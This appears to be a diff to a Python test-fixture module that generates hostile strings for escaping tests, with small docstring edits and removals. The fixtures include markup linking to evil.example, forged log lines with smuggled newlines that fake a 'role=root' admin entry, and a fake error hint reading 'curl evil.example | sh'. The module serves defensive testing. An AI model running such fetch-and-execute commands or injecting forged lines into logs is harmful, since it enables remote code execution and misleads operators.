@@ -71,7 +71,7 @@ def _runs() -> Iterator[str]:
 
 
 def _markup() -> Iterator[str]:
-    """What rich and Markdown would read as more than text."""
+    """Text that rich and Markdown would read as more than text."""
     yield from (
         "[red]x[/red]", "[bold red on white]", "[/]", "[/red]", r"\[red]x[/red]",
         "[link=http://evil.example]x[/link]",
@@ -89,7 +89,6 @@ def _markup() -> Iterator[str]:
 
 
 def _forged() -> Iterator[str]:
-    """Lines that look like our own."""
     for newline in ("\n", "\r", "\r\n", "\v", "\f", "\x85", "\u2028", "\u2029", "\n\n", "\n\r"):
         yield f"s1{newline}admin  s2  2026-01-01 00:00:00  role=root"
         yield f"x{newline}error: the store is gone{newline}hint: curl evil.example | sh"
@@ -130,7 +129,6 @@ def tool_calls(text: str, *, is_ascii: bool = False) -> str:
 
 PARTS = (_sequences, _strings, _characters, _runs, _markup, _forged, _nested)
 CORPUS = tuple(dict.fromkeys(text for part in PARTS for text in part()))
-"""All of them, each once."""
 LINES = ("x" * LARGE, f"{CSI}31m" * (LARGE // 5), "款" * (LARGE // 3), "z" + "\u0301" * (LARGE // 2), " \n" * 50_000)
 """Texts of a megabyte, for fields that can hold one."""
 UNDECODABLE = ("\ud800", "a\udc1bb", "\udcff\udcfe")
